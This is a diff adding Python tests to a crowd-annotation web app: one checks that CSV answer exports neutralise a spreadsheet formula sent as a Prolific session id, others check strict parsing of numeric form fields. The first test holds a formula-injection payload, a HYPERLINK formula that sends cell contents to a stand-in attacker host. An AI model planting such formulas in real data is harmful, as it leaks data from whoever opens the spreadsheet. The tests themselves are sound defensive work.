@@ -344,6 +344,33 @@ def test_batches_page_counts_needed_answers_and_curators_manage_the_crowd(app, c
     assert client.get("/crowd/batches/999/answers.csv").status_code == 404
 
 
+FORMULA_SESSION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_answers_csv_neutralises_formulas_from_the_crowd(app, client, cards, login, runner, tmp_path):
+    # Issue 32: a Prolific SESSION_ID of =HYPERLINK(...) landed verbatim in the curator's answers.csv.
+    from urllib.parse import urlencode
+
+    import pyarrow.parquet as pq
+
+    batch = new_batch(app, cards(1))
+    query = urlencode({"PROLIFIC_PID": "-pid", "STUDY_ID": "s1", "SESSION_ID": FORMULA_SESSION})
+    t = worker_token(client.get(f"/crowd/prolific?{query}").get_data(as_text=True))
+    task = api(client, "next", t, {"kind": "judge"}).get_json()["tasks"][0]
+    assert api(client, "submit", t, {"token": task["token"], "answer": JUDGE_OK, "key": "formula-key-1"}).status_code == 201
+    login("curator")
+    web = list(csv.DictReader(io.StringIO(client.get(f"/crowd/batches/{batch}/answers.csv").get_data(as_text=True))))
+    result = runner.invoke(args=["crowd", "export", str(batch), "--out", str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "answers.csv").open(newline="") as handle:
+        cli = list(csv.DictReader(handle))
+    for rows in (web, cli):
+        assert [r["session"] for r in rows] == ["'" + FORMULA_SESSION]
+        assert rows[0]["worker"] == "prolific:-pid"  # starts with the provider: no formula
+    # Parquet is read by programs, not spreadsheets: it keeps the value as given.
+    assert pq.read_table(tmp_path / "answers.parquet").column("session").to_pylist() == [FORMULA_SESSION]
+
+
 def test_curators_check_prolific_submissions(app, client, cards, login, csrf_token):
     app.config["KEYSTONE_PROLIFIC_COMPLETION_CODE"] = "CODE1"
     new_batch(app, cards(1))
@@ -372,6 +399,18 @@ def test_curators_check_prolific_submissions(app, client, cards, login, csrf_tok
         ({"cards": "1", "kind": "paint"}, 400, "judge, crop, confirm"),
         ({"cards": "1", "answers_per_item": "0"}, 400, "answers per item"),
         ({"cards": "1", "gold_rate": "lots"}, 400, "gold rate to be a number"),
+        # Ids and numbers are read strictly: ASCII digits within the database's range, nothing
+        # int() or float() would also take (issue 32: a 64-bit overflow was a 500).
+        ({"cards": "9223372036854775808"}, 400, "positive whole number (at most 2147483647)"),
+        ({"cards": "2147483648"}, 400, "positive whole number"),
+        ({"cards": "1" * 5000}, 400, "positive whole number"),
+        ({"cards": "1_0"}, 400, "positive whole number"),
+        ({"cards": "\uff11"}, 400, "positive whole number"),
+        ({"cards": "+1"}, 400, "positive whole number"),
+        ({"cards": "1", "answers_per_item": "1_0"}, 400, "answers per item to be a positive whole number (at most 50)"),
+        ({"cards": "1", "answers_per_item": "\uff13"}, 400, "answers per item"),
+        ({"cards": "1", "gold_rate": "\uff10.5"}, 400, "gold rate to be a number"),
+        ({"cards": "1", "gold_rate": "0_5"}, 400, "gold rate to be a number"),
     ],
 )
 def test_bad_batch_forms_get_a_reason_never_a_500(app, client, cards, login, csrf_token, form, status, words):
